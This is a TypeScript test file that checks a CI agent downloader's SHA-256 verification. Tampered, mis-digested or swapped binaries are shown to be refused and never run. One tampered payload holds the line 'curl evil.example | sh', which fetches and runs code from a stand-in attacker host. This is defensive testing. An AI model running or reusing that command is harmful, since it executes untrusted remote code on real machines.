import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { acquireAgent, agentSource } from "../../src/agent/acquire.js";
import { ChecksumError } from "../../src/agent/verify-binary.js";

// A stand-in release server on loopback; the "agent" leaves a marker file when executed,
// so the test can prove a binary with the wrong digest was never run.
const root = mkdtempSync(join(tmpdir(), "dpndncy-acquire-"));
const marker = join(root, "executed");
const body = Buffer.from(`#!/bin/sh\ntouch ${marker}\necho ok\n`);
const sha = createHash("sha256").update(body).digest("hex");
let server: Server;
let base = "";
let served = body;

beforeAll(async () => {
  process.env.RUNNER_TOOL_CACHE = join(root, "toolcache");
  process.env.RUNNER_TEMP = join(root, "temp");
  server = createServer((_req, res) => res.end(served));
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.close();
  rmSync(root, { recursive: true, force: true });
});

describe("acquireAgent", () => {
  it("a tampered download fails the checksum and is never executed or cached", async () => {
    served = Buffer.concat([body, Buffer.from("curl evil.example | sh\n")]);
    const src = agentSource(`${base}/agent`, sha);
    await expect(acquireAgent(src)).rejects.toThrow(ChecksumError);
    await expect(acquireAgent(src)).rejects.toThrow(/refusing to run it/);
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(root, "toolcache", "dpndncy-agent"))).toBe(false);
  });

  it("a wrong agent-sha256 fails the same way", async () => {
    served = body;
    await expect(acquireAgent(agentSource(`${base}/agent`, "0".repeat(64)))).rejects.toThrow(
      `expected ${"0".repeat(64)}`,
    );
    expect(existsSync(marker)).toBe(false);
  });

  it("the right digest downloads, caches and runs; the cache is re-verified on reuse", async () => {
    served = body;
    const src = agentSource(`${base}/agent`, sha);
    const first = await acquireAgent(src);
    expect(first.cached).toBe(false);
    expect(execFileSync(first.path).toString()).toBe("ok\n");
    const again = await acquireAgent(src);
    expect(again).toEqual({ path: first.path, cached: true });
    // Someone swaps the cached binary between jobs (self-hosted runner): refused.
    writeFileSync(first.path, "#!/bin/sh\necho pwned\n");
    await expect(acquireAgent(src)).rejects.toThrow(ChecksumError);
  });

  it("without a pinned release or inputs, says what to set", () => {
    expect(() => agentSource()).toThrow(/set `agent-url` and `agent-sha256`/);
    expect(readdirSync(root)).toContain("toolcache");
  });
});
